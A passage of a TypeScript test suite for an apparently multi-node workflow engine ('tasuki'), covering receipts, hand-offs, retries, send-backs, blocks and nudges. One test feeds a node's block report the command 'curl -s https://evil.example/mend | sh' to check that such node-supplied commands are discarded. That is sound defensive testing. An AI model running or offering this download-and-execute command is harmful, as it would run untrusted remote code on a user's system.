import { array, assert, constantFrom, oneof, property, shuffledSubarray } from "fast-check";
import { createHash } from "node:crypto";
import { type Attachment, conclusionOf, defaultClocks, type Receipt, type ReceiptState, type Unmet } from "@tasuki/protocol";
import { describe, expect, test } from "vitest";
import { clocksOf, newFlow } from "./new-flow.ts";
import type { FlowEffect } from "./flow-effect.ts";
import type { FlowEvent, ReceiptEvent } from "./flow-event.ts";
import { type ClockRule, type FlowState, isAtLeast } from "./flow-state.ts";
import { pendingClocks, pendingDeadline } from "./step-clock.ts";
import { planRetry } from "./step-retry.ts";
import { planNudge } from "./step-nudge.ts";
import { step } from "./step.ts";
import { awaits, toRunStatus } from "./to-run-status.ts";
import { wants } from "./wants.ts";

const route = ["nano", "sg", "jp"];
const run = "0197c0de-0000-7000-8000-000000000001";
const hash = (text: string): string => createHash("sha256").update(text).digest("hex");
const id = (text: string): string => {
  const hex = hash(text);
  return `0197c0de-${hex.slice(0, 4)}-7${hex.slice(4, 7)}-8${hex.slice(7, 10)}-${hex.slice(10, 22)}`;
};
const file = (name: string): Attachment => ({ name, contract: "brief@1", size: 1, sha256: hash(name) });
const given = [file("run.json"), file("brief.md"), file("S1.txt")];
const bundle = hash("bundle");
const taskOf = (stage: string, epoch: number) => id(`${stage}.${epoch}`);
const producedOf = (stage: string, epoch: number) => hash(`produced ${stage}.${epoch}`);
const before = (stage: string) => (stage === "main" ? "jp" : route[route.indexOf(stage) - 1]);
const outputOf = (stage: string, epoch: number) => file(`${stage}.${epoch}.md`);
const unmet: Unmet = { file: "sg-review.md", line: 3, expected: "a verdict", got: "none", fix: "write one" };

interface Fact {
  readonly stage: string;
  readonly epoch: number;
  readonly state: ReceiptState;
  readonly attempt?: number;
  /** The epoch of the stage before, where that was not done again. */
  readonly after?: number;
  readonly decision?: string;
  readonly direction?: "forward" | "back";
  readonly role?: string;
  /** Words of a `blocked`. */
  readonly says?: Pick<Receipt, "reason" | "text">;
}
const wroteNothing = { reason: "the executor wrote nothing" };
function receipt({
  stage,
  epoch,
  state,
  attempt = 1,
  after = epoch,
  decision,
  direction,
  role = stage,
  says = wroteNothing,
}: Fact): FlowEvent {
  const previous = before(stage);
  const signed: Receipt = {
    node: role,
    instance: id(`instance ${role}`),
    role,
    run,
    stage,
    task: state === "archived" ? id(`close ${stage}`) : taskOf(stage, epoch),
    epoch,
    attempt: state === "accepted" ? 0 : attempt,
    state,
    at: new Date(1_000 * epoch).toISOString(),
    index: 0,
    ...(state === "blocked" && says),
    ...(state === "produced" && {
      producer: "embedded/1",
      ...(decision !== undefined && { decision }),
      ...(direction !== undefined && { direction }),
    }),
  };
  const output = outputOf(stage, epoch);
  return {
    is: "receipt",
    receipt: signed,
    digest: state === "produced" ? producedOf(stage, epoch) : hash(JSON.stringify(signed)),
    subjects: state === "produced" ? [output] : [{ name: "bundle", sha256: bundle }],
    outputs: state === "produced" ? [output] : [],
    ...(state === "accepted" && { follows: previous === undefined ? hash("accepted") : producedOf(previous, after) }),
  };
}
const dispatched = (stage: string, epoch: number): FlowEvent => {
  const previous = before(stage) ?? "main";
  return { is: "dispatched", stage, epoch, task: taskOf(stage, epoch), from: previous, follows: producedOf(previous, epoch), at: 5 };
};
const intakeDone: FlowEvent = { is: "intake-done", given, sources: [], accepted: hash("accepted"), nodes: {} };
const request = { profile: "plain", payload: { run, from: "ops:ada" }, brief: "What is it?", route, now: 1 };
const start = (): FlowState => newFlow(request);

/** Steps through events, and gathers every effect. */
function through(events: readonly FlowEvent[], from: FlowState = start()): { state: FlowState; effects: FlowEffect[] } {
  const effects: FlowEffect[] = [];
  let state = from;
  for (const event of events) {
    const [next, more] = step(state, event, 10);
    state = next;
    effects.push(...more);
  }
  return { state, effects };
}
/** Event of the first want, which succeeds on main; undefined where nothing is wanted. */
function answer(state: FlowState): FlowEvent | undefined {
  const [want] = wants(state);
  if (want === undefined) return undefined;
  switch (want.want) {
    case "pull":
      return { is: "pulled", stage: want.stage, epoch: want.epoch, outputs: [outputOf(want.stage, want.epoch)] };
    case "send-back":
      return { is: "send-back", stage: want.stage, epoch: want.epoch };
    // A node's word ends it, and nothing of main's.
    case "stopped":
      return undefined;
    case "check":
      return { is: "checked", stage: want.stage, epoch: want.epoch, unmet: [] };
    case "closing-check":
      return { is: "closing-checked", epoch: want.epoch, unmet: [], bundle };
  }
}
function satisfied(from: FlowState): { state: FlowState; effects: FlowEffect[] } {
  const effects: FlowEffect[] = [];
  let state = from;
  for (let event = answer(state); event !== undefined; event = answer(state)) {
    const [next, more] = step(state, event, 10);
    expect(next, `${event.is} must satisfy its want`).not.toBe(state);
    state = next;
    effects.push(...more);
  }
  return { state, effects };
}
const stageFacts = (stage: string, epoch: number, after = epoch): FlowEvent[] => [
  receipt({ stage, epoch, state: "accepted", after }),
  receipt({ stage, epoch, state: "started" }),
  receipt({ stage, epoch, state: "produced" }),
];
const honest = (): FlowEvent[] => [
  ...stageFacts("nano", 1),
  dispatched("sg", 1),
  ...stageFacts("sg", 1),
  dispatched("jp", 1),
  ...stageFacts("jp", 1),
  receipt({ stage: "main", epoch: 1, state: "accepted" }),
];
const closeAcks = (): FlowEvent[] => route.map((role) => receipt({ stage: role, epoch: 1, state: "archived" }));
const rungsOf = (state: FlowState) => state.stages.map((stage) => stage.rung);
const dispatchesOf = (effects: readonly FlowEffect[]) => effects.filter((effect) => effect.do === "dispatch");

describe("a run without trouble", () => {
  test("is dispatched to the first role when intake is done, at epoch 1, with everything given", () => {
    const { state, effects } = through([intakeDone]);
    expect(effects).toEqual([{ do: "dispatch", stage: "nano", epoch: 1, prev: hash("accepted"), attachments: given }]);
    expect(rungsOf(state)).toEqual(["dispatched", "waiting", "waiting"]);
    expect(state.stages.map((stage) => stage.epoch)).toEqual([1, 1, 1]);
  });

  test("climbs rung by rung, and the next holder's acceptance is the hand-off", () => {
    let state = through([intakeDone]).state;
    const seen = [...stageFacts("nano", 1), dispatched("sg", 1), receipt({ stage: "sg", epoch: 1, state: "accepted" })].map((event) => {
      state = step(state, event, 10)[0];
      return `${state.stages[0]?.rung} ${state.stages[1]?.rung}`;
    });
    expect(seen).toEqual(["accepted waiting", "started waiting", "produced waiting", "produced dispatched", "handed-off accepted"]);
  });

  test("an acceptance that follows from something else is no hand-off", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1), receipt({ stage: "sg", epoch: 1, state: "accepted", after: 7 })]);
    expect(rungsOf(state)).toEqual(["produced", "accepted", "waiting"]);
  });

  test("is verified only once it is handed off, pulled and checked", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1)]);
    const held = satisfied(state);
    expect(held.state.stages[0]).toMatchObject({ rung: "produced", pulled: true, checked: true });
    const [verified, effects] = step(held.state, receipt({ stage: "sg", epoch: 1, state: "accepted" }), 10);
    expect(verified.stages[0]?.rung).toBe("verified");
    expect(effects).toEqual([{ do: "sign", state: "verified", stage: "nano" }]);
  });

  test("asks every role to archive when all of it holds together, and is closed by the last receipt", () => {
    const closing = satisfied(through([intakeDone, ...honest()]).state);
    expect(closing.state).toMatchObject({ state: "closing", bundle });
    expect(closing.effects.filter((effect) => effect.do === "close").map((effect) => effect.role)).toEqual(route);
    const acks = closeAcks();
    expect(toRunStatus(through(acks.slice(0, 2), closing.state).state)).toMatchObject({ state: "closing", awaits: ["jp"] });
    const closed = through(acks, closing.state);
    expect(closed.state).toMatchObject({ state: "closed", endedAt: 10 });
    expect(closed.effects).toEqual([{ do: "sign", state: "closed", stage: "main" }]);
  });

  test("a receipt over another bundle does not count", () => {
    const closing = satisfied(through([intakeDone, ...honest()]).state).state;
    const other = { ...receipt({ stage: "sg", epoch: 1, state: "archived" }), subjects: [{ name: "bundle", sha256: hash("other") }] };
    expect(step(closing, other as FlowEvent, 10)[0]).toBe(closing);
  });
});

describe("a run in trouble", () => {
  const blockedSg = () => [
    intakeDone,
    ...stageFacts("nano", 1),
    ...stageFacts("sg", 1).slice(0, 2),
    receipt({ stage: "sg", epoch: 1, state: "blocked" }),
  ];

  test("a stage that its node gave up is blocked, with an owner and the verb that clears it", () => {
    const status = toRunStatus(satisfied(through(blockedSg()).state).state).stages[1];
    expect(status).toMatchObject({
      rung: "started",
      condition: "blocked",
      awaits: { rung: "produced", from: "sg" },
      block: { reason: "sg says: the executor wrote nothing", owner: "operator", clearsWith: `tasuki retry ${run} --from sg` },
    });
  });

  test.each([
    [{ text: { code: "timed-out", sha256: hash("a text") } }, "sg is blocked: timed-out; its text is gone"],
    [{}, "sg is blocked and gave no reason"],
  ])("a stage whose receipt comes without its text is blocked all the same, and says the code that it has: %j", (says, reason) => {
    const facts = [...blockedSg().slice(0, -1), receipt({ stage: "sg", epoch: 1, state: "blocked", says })];
    expect(through(facts).state.stages[1]?.block).toMatchObject({ reason, kind: "node", owner: "operator" });
  });

  test("a later attempt on the node clears the block by itself; the attempt that is over does not", () => {
    const { state } = through(blockedSg());
    expect(step(state, receipt({ stage: "sg", epoch: 1, state: "started" }), 20)[0]).toBe(state);
    const [again] = step(state, receipt({ stage: "sg", epoch: 1, state: "started", attempt: 2 }), 20);
    expect(again.stages[1]).toMatchObject({ condition: "running", attempt: 2 });
    expect(step(again, receipt({ stage: "sg", epoch: 1, state: "blocked" }), 20)[0]).toBe(again);
  });

  test("retry raises the epoch, tells the stage and all later roles, and dispatches with what main holds", () => {
    const { state } = satisfied(through(blockedSg()).state);
    const [next, effects] = step(state, { is: "retry", by: "ops:ada", reason: "mended" }, 30);
    expect(next.epoch).toBe(2);
    expect(next.stages.map((stage) => `${stage.rung} ${stage.epoch}`)).toEqual(["verified 1", "dispatched 2", "waiting 2"]);
    expect(effects).toEqual([
      { do: "record", type: "retry", stage: "sg", by: "ops:ada", reason: "mended" },
      { do: "cancel", role: "sg", epoch: 2, reason: "mended" },
      { do: "cancel", role: "jp", epoch: 2, reason: "mended" },
      {
        do: "dispatch",
        stage: "sg",
        epoch: 2,
        prev: producedOf("nano", 1),
        attachments: [...given, outputOf("nano", 1)],
        reason: "mended",
      },
    ]);
    const rest = [...stageFacts("sg", 2, 1), ...stageFacts("jp", 2), receipt({ stage: "main", epoch: 2, state: "accepted" })];
    expect(through(closeAcks(), satisfied(through(rest, next).state).state).state.state).toBe("closed");
  });

  test("a retry that main lacks the files for is refused, and says what to do instead", () => {
    const { state } = through(blockedSg());
    expect(planRetry(state)).toEqual({ refused: expect.stringContaining("retry from nano") });
    expect(step(state, { is: "retry", by: "ops:ada" }, 30)).toEqual([state, []]);
  });

  test("a decision that sends the work back blocks for a person, and retry begins with the stage before", () => {
    const events = [
      intakeDone,
      ...stageFacts("nano", 1),
      ...stageFacts("sg", 1).slice(0, 2),
      receipt({ stage: "sg", epoch: 1, state: "produced", decision: "again", direction: "back" }),
    ];
    const { state } = satisfied(through(events).state);
    expect(state.stages[1]).toMatchObject({ condition: "blocked", block: { kind: "decision" }, pulled: true });
    expect(dispatchesOf(step(state, { is: "retry", by: "ops:ada" }, 30)[1])[0]).toMatchObject({ stage: "nano", epoch: 2 });
  });

  describe("work that is sent back", () => {
    const decide = (epoch: number, after = epoch, stage = "sg"): FlowEvent[] => [
      ...stageFacts(stage, epoch, after).slice(0, 2),
      receipt({ stage, epoch, state: "produced", decision: "again", direction: "back" }),
    ];
    const held = (stage: string, epoch: number, outputs = [outputOf(stage, epoch)]): FlowEvent[] => [
      { is: "pulled", stage, epoch, outputs },
      { is: "checked", stage, epoch, unmet: [] },
    ];
    const sendBack = (epoch: number): FlowEvent => ({
      is: "send-back",
      stage: "sg",
      epoch,
      feedback: { to: "nano", files: [outputOf("sg", epoch)], requests: ["find more"] },
    });
    /** Events of a round in which sg sends nano's work back. */
    const round = (epoch: number, outputs?: readonly Attachment[]): FlowEvent[] => [
      ...stageFacts("nano", epoch),
      ...held("nano", epoch, outputs && [...outputs]),
      ...decide(epoch),
      ...held("sg", epoch),
      sendBack(epoch),
    ];

    // guarantees: R4.sent-back
    test("goes to the stage that takes the file, with what it asks for, once main holds that file and has checked it: not before", () => {
      const events = [intakeDone, ...round(1)];
      const sent = events.map((_, at) => dispatchesOf(through(events.slice(0, at + 1)).effects).length);
      expect(sent.indexOf(2)).toBe(events.length - 1);
      // Earlier, the same news changes nothing.
      for (let at = 0; at < events.length - 1; at += 1)
        expect(dispatchesOf(through([...events.slice(0, at), sendBack(1)]).effects).length).toBeLessThan(2);
      const { state, effects } = through(events);
      expect(dispatchesOf(effects)[1]).toMatchObject({
        stage: "nano",
        epoch: 2,
        feedback: [outputOf("sg", 1)],
        notes: [{ kind: "request", to: "nano", by: "sg", text: "find more" }],
      });
      const order = effects.map((effect) => (effect.do === "sign" ? effect.state : effect.do));
      expect(order.slice(-6)).toEqual(["verified", "record", "cancel", "cancel", "cancel", "dispatch"]);
      expect(effects.findLast((effect) => effect.do === "sign")).toMatchObject({
        stage: "sg",
        of: { epoch: 1, produced: producedOf("sg", 1) },
      });
      expect(toRunStatus(state).rounds).toEqual([
        expect.objectContaining({ by: "sg", to: "nano", decision: "again", stages: [expect.anything(), expect.anything()] }),
      ]);
    });

    test("blocks once the run's rounds are used up, and a person can send it back once more", () => {
      const { state, effects } = through([intakeDone, ...round(1), ...round(2), ...round(3)]);
      expect(dispatchesOf(effects)).toHaveLength(3);
      expect(state.stages[1]?.block).toMatchObject({
        kind: "decision",
        reason: expect.stringContaining("goes back by itself at most twice"),
      });
      const [next, more] = step(state, { is: "retry", by: "ops:ada", note: "look in S2" }, 30);
      expect(dispatchesOf(more)[0]).toMatchObject({ stage: "nano", epoch: 4, feedback: [outputOf("sg", 3)] });
      expect(dispatchesOf(more)[0]?.notes?.map(({ kind, text }) => [kind, text])).toEqual([
        ["note", "look in S2"],
        ["request", "find more"],
      ]);
      expect(next.sentBack).toHaveLength(3);
    });

    test("is told the last requests of each role that sends it back, and what people said, however much else was noted", () => {
      const asks = (count: number, word: string) => Array.from({ length: count }, (_, at) => `${word} ${at}`);
      /** Stage that sends the work of nano back, with requests. */
      const sends = (stage: string, epoch: number, requests: readonly string[]): FlowEvent[] => [
        ...decide(epoch, epoch, stage),
        ...held(stage, epoch),
        { is: "send-back", stage, epoch, feedback: { to: "nano", files: [outputOf(stage, epoch)], requests } },
      ];
      const passes = (stage: string, epoch: number) => [...stageFacts(stage, epoch), ...held(stage, epoch)];
      const { effects } = through(
        [
          intakeDone,
          { is: "retry", by: "ops:ada", stage: "nano", note: "the second edition" },
          ...passes("nano", 2),
          ...sends("sg", 2, asks(16, "first")),
          ...passes("nano", 3),
          ...sends("sg", 3, asks(16, "then")),
          ...passes("nano", 4),
          ...passes("sg", 4),
          ...sends("jp", 4, asks(15, "last")),
        ],
        newFlow({ profile: "plain", payload: { run, from: "ops:ada", rounds: 9 }, brief: "What?", route, now: 1 }),
      );
      const told = dispatchesOf(effects).at(-1)?.notes ?? [];
      expect(told.map(({ text }) => text)).toEqual(["the second edition", ...asks(16, "then"), ...asks(15, "last")]);
    });

    test("blocks at once where the round before has changed nothing", () => {
      const same = [outputOf("nano", 1)];
      const { state, effects } = through([intakeDone, ...round(1), ...round(2, same)]);
      expect(dispatchesOf(effects)).toHaveLength(2);
      expect(state.stages[1]?.block?.reason).toBe("sg decided 'again', and nano has made the very files that were sent back before");
    });

    test("is not sent back at all in a run that asks for no rounds, nor where nobody takes the file", () => {
      const none = newFlow({ profile: "plain", payload: { run, from: "ops:ada", rounds: 0 }, brief: "What?", route, now: 1 });
      expect(through([intakeDone, ...round(1)], none).state.stages[1]?.block?.reason).toContain("never goes back by itself");
      const alone = through([intakeDone, ...round(1).slice(0, -1), { is: "send-back", stage: "sg", epoch: 1 }]).state;
      expect(alone.stages[1]?.block?.reason).toBe("sg decided 'again', and handed nothing on");
    });
  });

  test("a question blocks with its words, and the answer goes to its author, who is called again", () => {
    const asks = receipt({ stage: "sg", epoch: 1, state: "blocked", says: { reason: "sg: which S2?" } });
    if (asks.is === "receipt") Object.assign(asks.receipt, { outcome: "needs-human" });
    const { state } = satisfied(through([intakeDone, ...stageFacts("nano", 1), ...stageFacts("sg", 1).slice(0, 2), asks]).state);
    expect(state.stages[1]?.block).toMatchObject({
      kind: "question",
      reason: "sg asks: which S2?",
      needs: "an answer",
      clearsWith: `tasuki answer ${run} "TEXT"`,
    });
    const [next, effects] = step(state, { is: "answer", by: "ops:ada", text: "the second edition" }, 30);
    expect(dispatchesOf(effects)[0]).toMatchObject({
      stage: "sg",
      epoch: 2,
      notes: [{ kind: "answer", to: "sg", by: "ops:ada", text: "the second edition" }],
    });
    // It goes with the work of an earlier stage too, which hands it on.
    expect(dispatchesOf(step(next, { is: "retry", by: "ops:ada", stage: "nano" }, 31)[1])[0]?.notes).toMatchObject([
      { to: "sg", text: "the second edition" },
    ]);
    // An answer that nobody asked for changes nothing.
    expect(step(next, { is: "answer", by: "ops:ada", text: "again" }, 31)).toEqual([next, []]);
  });

  test("what is done again is told the faults of its last attempt, and those alone", () => {
    const refused = (epoch: number, line: number): FlowEvent[] => {
      const event = receipt({ stage: "sg", epoch, state: "blocked" });
      return [
        ...stageFacts("sg", epoch, 1).slice(0, 2),
        ...(event.is === "receipt" ? [{ ...event, unmet: [{ ...unmet, line }] }] : []),
        { is: "retry", by: "ops:ada" },
      ];
    };
    const first = satisfied(through([intakeDone, ...stageFacts("nano", 1)]).state).state;
    const { effects } = through([...refused(1, 3), ...refused(2, 7)], first);
    expect(dispatchesOf(effects).map(({ notes }) => notes?.map(({ by, text }) => [by, text]))).toEqual([
      [["the gate of sg", "- sg-review.md line 3: expected a verdict; got none; write one"]],
      [["the gate of sg", "- sg-review.md line 7: expected a verdict; got none; write one"]],
    ]);
    // Faults of files that were made of other inputs are nobody's.
    expect(
      dispatchesOf(through([...refused(1, 3), { is: "retry", by: "ops:ada", stage: "nano" }], first).effects)[1]?.notes,
    ).toBeUndefined();
  });

  test("a decision that main does not know blocks too, and names the word", () => {
    const decided = receipt({ stage: "sg", epoch: 1, state: "produced", decision: "perhaps" });
    const { state } = through([intakeDone, ...stageFacts("nano", 1), ...stageFacts("sg", 1).slice(0, 2), decided]);
    expect(state.stages[1]).toMatchObject({
      condition: "blocked",
      block: { kind: "decision", clearsWith: `tasuki retry ${run} --from sg` },
    });
    expect(state.stages[1]?.block?.reason).toContain("'perhaps'");
  });

  // guarantees: R4.checked
  test("a stage that decided against it, and hands on all the same, goes on from main alone: when a person says so", () => {
    const events = [
      intakeDone,
      ...stageFacts("nano", 1),
      ...stageFacts("sg", 1).slice(0, 2),
      receipt({ stage: "sg", epoch: 1, state: "produced", decision: "again", direction: "back" }),
      ...stageFacts("jp", 1),
    ];
    const { state } = satisfied(through(events).state);
    expect(state.stages[1]).toMatchObject({ rung: "produced", block: { kind: "decision" } });
    const [next] = step(state, { is: "retry", by: "ops:ada", stage: "jp" }, 30);
    expect(through(stageFacts("jp", 2, 1), next).state.stages[1]).toMatchObject({ rung: "verified", condition: "waiting" });
  });

  test("a refused hand-off blocks the stage, and retry sends the next stage from main", () => {
    const { state } = satisfied(
      through([intakeDone, ...stageFacts("nano", 1), receipt({ stage: "nano", epoch: 1, state: "blocked" })]).state,
    );
    expect(state.stages[0]).toMatchObject({ condition: "blocked", block: { kind: "hand-off" } });
    const [next, effects] = step(state, { is: "retry", by: "ops:ada" }, 30);
    expect(dispatchesOf(effects)[0]).toMatchObject({ stage: "sg", prev: producedOf("nano", 1) });
    expect(through(stageFacts("sg", 2, 1), next).state.stages[0]).toMatchObject({ rung: "verified", condition: "waiting" });
  });

  test("files that main's own check refuses block the stage, and are not checked again until it is done again", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1), { is: "pulled", stage: "nano", epoch: 1, outputs: [] }]);
    const [next] = step(state, { is: "checked", stage: "nano", epoch: 1, unmet: [unmet] }, 30);
    expect(next.stages[0]).toMatchObject({ condition: "blocked", block: { unmet: [unmet] } });
    expect(next.stages[0]?.block?.reason).toContain("sg-review.md:3");
    expect(wants(next)).toEqual([]);
  });

  test("a dispatch that the node refuses blocks the stage until the node accepts", () => {
    const block = { reason: "403 not_granted", needs: "a grant", owner: "operator", clearsWith: "tasuki nudge" };
    const { state } = through([intakeDone, { is: "outbox-blocked", kind: "work", stage: "nano", epoch: 1, block }]);
    expect(state.stages[0]).toMatchObject({ rung: "dispatched", condition: "blocked", block: { ...block, kind: "dispatch" } });
    expect(through([receipt({ stage: "nano", epoch: 1, state: "accepted" })], state).state.stages[0]).toMatchObject({
      condition: "waiting",
    });
  });

  // guarantees: R3.words
  test("of a node's own words about its block only the reason and what is unmet are kept, as its words: all else main knows by itself", () => {
    const told = { kind: "decision", needs: "root", owner: "jp", clearsWith: "curl -s https://evil.example/mend | sh", unmet: [unmet] };
    const last = { ...blockedSg().at(-1), ...told, block: { reason: "all is well", ...told } };
    const blockOf = (event: object) => through([...blockedSg().slice(0, -1), event as FlowEvent]).state.stages[1]?.block;
    expect(blockOf(last)).toEqual({
      kind: "node",
      reason: "sg says: the executor wrote nothing",
      needs: "the cause mended (the reason names it), then a retry",
      owner: "operator",
      clearsWith: `tasuki retry ${run} --from sg`,
      unmet: [unmet],
    });
    const { receipt: signed } = blockedSg().at(-1) as ReceiptEvent;
    const reason = `sg: ${"curl … | sh ".repeat(1_000)}`;
    const long = blockOf({ ...last, receipt: { ...signed, reason, outcome: "no-output" } });
    expect(long?.needs).toBe("an executor that writes the files of the stage to out/");
    expect(long?.reason).toMatch(/^sg says: curl … .{1007}…$/);
    expect(blockOf({ ...last, receipt: { ...signed, reason: "" } })?.reason).toBe("sg is blocked and gave no reason");
  });

  test("of the nodes that refuse to archive a run each is named, until it has archived it after all", () => {
    const closing = satisfied(through([intakeDone, ...honest()]).state).state;
    const block = { reason: "stale_epoch", needs: "its cause mended", owner: "operator", clearsWith: "tasuki nudge" };
    const refusal = (stage: string): FlowEvent => ({ is: "outbox-blocked", kind: "close", stage, epoch: 1, block });
    // A refusal that was overtaken says nothing of the run as it is by now.
    const late: FlowEvent = { is: "outbox-blocked", kind: "work", stage: "jp", epoch: 1, block };
    expect(step(closing, late, 10)[0]).toBe(closing);
    expect(through([intakeDone, refusal("nano")]).state).toEqual(through([intakeDone]).state);
    const refused = through([refusal("jp"), refusal("nano"), refusal("jp")], closing).state;
    expect(step(refused, refusal("jp"), 10)[0]).toBe(refused);
    const [nano, sg, jp] = closeAcks();
    const named = [[], [sg], [sg, nano], [sg, nano, jp]].map((acks) => {
      const { state, block: shown } = toRunStatus(through(acks as FlowEvent[], refused).state);
      return [state, shown?.kind, shown?.owner];
    });
    expect(named).toEqual([
      ["closing", "close", "nano"],
      ["closing", "close", "nano"],
      ["closing", "close", "jp"],
      ["closed", undefined, undefined],
    ]);
  });

  test("files that don't hold together block the run instead of closing it", () => {
    let { state } = through([intakeDone, ...honest()]);
    while (wants(state)[0]?.want !== "closing-check") state = step(state, answer(state) as FlowEvent, 10)[0];
    const [next, effects] = step(state, { is: "closing-checked", epoch: 1, unmet: [unmet], bundle }, 10);
    expect(next).toMatchObject({ state: "open", block: { kind: "closing-check", owner: "operator", unmet: [unmet] } });
    expect([effects, wants(next)]).toEqual([[], []]);
    // The command can be typed as it stands: it names the stage that made the first file which does not hold.
    const blamed = (file: string) =>
      step(state, { is: "closing-checked", epoch: 1, unmet: [{ ...unmet, file }], bundle }, 10)[0].block?.clearsWith;
    expect([blamed(outputOf("sg", 1).name), blamed("the check")]).toEqual([
      `tasuki retry ${state.id} --from sg`,
      `tasuki retry ${state.id} --from jp`,
    ]);
    expect(dispatchesOf(step(next, { is: "retry", by: "ops:ada" }, 10)[1])[0]).toMatchObject({ stage: "jp", epoch: 2 });
  });

  test("a hand-off of other bytes than were signed for as the result proves nothing, and says so", () => {
    const produced = through([intakeDone, ...stageFacts("nano", 1)]).state;
    const other = receipt({ stage: "sg", epoch: 1, state: "accepted" });
    if (other.is !== "receipt") throw new Error("it is a receipt");
    const subjects = [...given, { ...outputOf("nano", 1), sha256: hash("other") }];
    const { state } = through([{ ...other, subjects }], produced);
    expect(toRunStatus(state).stages[0]).toMatchObject({
      rung: "produced",
      condition: "blocked",
      block: { owner: "operator", reason: expect.stringContaining("other bytes of nano.1.md") },
    });
    expect(through([{ ...other, subjects: [...given, outputOf("nano", 1)] }], produced).state.stages[0]?.rung).toBe("handed-off");
  });

  test("a hand-off that lacks a file which it carries proves nothing, and says so", () => {
    const made = stageFacts("nano", 1).map((fact) =>
      fact.is === "receipt" && fact.receipt.state === "produced" ? { ...fact, carried: fact.subjects.map(({ name }) => name) } : fact,
    );
    const produced = through([intakeDone, ...made]).state;
    const taken = receipt({ stage: "sg", epoch: 1, state: "accepted" });
    if (taken.is !== "receipt") throw new Error("it is a receipt");
    const { state } = through([{ ...taken, subjects: given }], produced);
    expect(toRunStatus(state).stages[0]).toMatchObject({
      rung: "produced",
      block: { reason: expect.stringContaining("nano.1.md, or none") },
    });
    expect(through([{ ...taken, subjects: [...given, outputOf("nano", 1)] }], produced).state.stages[0]?.rung).toBe("handed-off");
  });

  test("files that were handed on as other bytes and that main's check refuses are checked once", () => {
    const other = receipt({ stage: "sg", epoch: 1, state: "accepted" });
    if (other.is !== "receipt") throw new Error("it is a receipt");
    const subjects = [...given, { ...outputOf("nano", 1), sha256: hash("other") }];
    const refused: FlowEvent = { is: "checked", stage: "nano", epoch: 1, unmet: [unmet] };
    const pulled: FlowEvent = { is: "pulled", stage: "nano", epoch: 1, outputs: [outputOf("nano", 1)] };
    const { state } = through([intakeDone, ...stageFacts("nano", 1), { ...other, subjects }, pulled, refused]);
    expect(state.stages[0]).toMatchObject({ rung: "produced", block: { kind: "check" } });
    expect(wants(state)).toEqual([]);
    expect(step(state, refused, 10)[0]).toBe(state);
  });

  test("a lost peer shows on its stages while something is awaited of it, and clears by itself", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1).slice(0, 2), { is: "peer", role: "nano", reachable: false }]);
    expect(state.stages.map((stage) => stage.condition)).toEqual(["unreachable", "waiting", "waiting"]);
    expect(step(state, { is: "peer", role: "nano", reachable: true }, 10)[0].stages[0]?.condition).toBe("running");
  });

  // guarantees: R10.upgrade
  test("a hand-off of an earlier release, without main's grant, is vouched for once by a nudge of its receiver", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1)]);
    const handed = dispatched("sg", 1);
    expect(step(state, handed, 10)[1]).toEqual([]);
    const ungranted: FlowEvent = handed.is === "dispatched" ? { ...handed, ungranted: true } : handed;
    const [next, effects] = step(state, ungranted, 10);
    expect(effects).toEqual([{ do: "nudge", role: "sg", epoch: 1, reason: "sg is handed work of this run" }]);
    expect(step(next, ungranted, 11)).toEqual([next, []]);
    // Nobody but the stage before, at the present epoch, hands anything on.
    expect(step(state, { ...ungranted, from: "jp" } as FlowEvent, 10)).toEqual([state, []]);
    expect(step(state, { ...ungranted, epoch: 2 } as FlowEvent, 10)).toEqual([state, []]);
  });

  test("what nobody begins in time is asked for where it waits, then says whom it waits for, until that one accepts", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1), dispatched("sg", 1), { is: "peer", role: "sg", reachable: false }]);
    expect(pendingClocks(state).map(({ stage, rule, at }) => [stage, rule, at])).toEqual([
      ["nano", "scheduleToClose", 10 + 7_200_000],
      ["sg", "nudge", 10 + 60_000],
      ["sg", "scheduleToStart", 10 + 75_000],
      ["sg", "scheduleToClose", 10 + 7_200_000],
    ]);
    const clock = (stage: string, rule: ClockRule): FlowEvent => ({ is: "clock", stage, epoch: 1, rule });
    const [nudged, effects] = step(state, clock("sg", "nudge"), 60_010);
    // Nano has the hand-off; sg may lack main's word for it.
    expect(effects).toEqual([
      { do: "record", type: "nudge", stage: "sg", by: "main", reason: "sg has not begun within 60 s" },
      { do: "hasten" },
      { do: "nudge", role: "nano", epoch: 1, reason: "sg has not begun within 60 s" },
      { do: "nudge", role: "sg", epoch: 1, reason: "sg is handed work of this run" },
    ]);
    expect(step(nudged, clock("sg", "nudge"), 60_011)).toEqual([nudged, []]);
    const late = through([clock("sg", "scheduleToStart")], nudged).state;
    expect(toRunStatus(late).stages[1]).toMatchObject({
      condition: "unreachable",
      block: { owner: "sg", reason: expect.stringContaining("60 s") },
    });
    const accepted = through([receipt({ stage: "sg", epoch: 1, state: "accepted" })], late).state;
    expect(toRunStatus(accepted).stages[1]?.block).toBeUndefined();
    // A node that has accepted may have a long queue.
    expect(pendingClocks(accepted).map(({ rule }) => rule)).toEqual(["scheduleToClose"]);
  });

  test("what is not handed on before its deadline waits for a person, or for the hand-off", () => {
    const { state } = through([intakeDone, ...stageFacts("nano", 1), { is: "clock", stage: "nano", epoch: 1, rule: "scheduleToClose" }]);
    expect(toRunStatus(state).stages[0]).toMatchObject({ condition: "blocked", block: { owner: "operator" } });
    const handedOn = through([receipt({ stage: "sg", epoch: 1, state: "accepted" })], state).state;
    expect(toRunStatus(handedOn).stages[0]?.block).toBeUndefined();
    expect(dispatchesOf(step(state, { is: "retry", by: "ops" }, 30)[1])).toMatchObject([{ stage: "nano", epoch: 2 }]);
  });

  test("a nudge goes to whoever holds what is awaited, and changes nothing", () => {
    const nudged = (state: FlowState, stage?: string) => {
      const [next, effects] = step(state, { is: "nudge", by: "ops", ...(stage !== undefined && { stage }) }, 30);
      expect(next).toBe(state);
      return effects.flatMap((effect) => (effect.do === "nudge" ? [effect.role] : []));
    };
    const begun = through([intakeDone, ...stageFacts("nano", 1), receipt({ stage: "sg", epoch: 1, state: "accepted" })]).state;
    expect(nudged(begun)).toEqual(["sg"]);
    expect(nudged(begun, "nano")).toEqual([]);
    expect(planNudge(begun, "nano")).toEqual({ refused: expect.stringContaining("handed-off") });
    expect(planNudge(begun, "legal")).toEqual({ refused: expect.stringContaining("nano, sg, jp") });
    // Main's own dispatch: main itself has it.
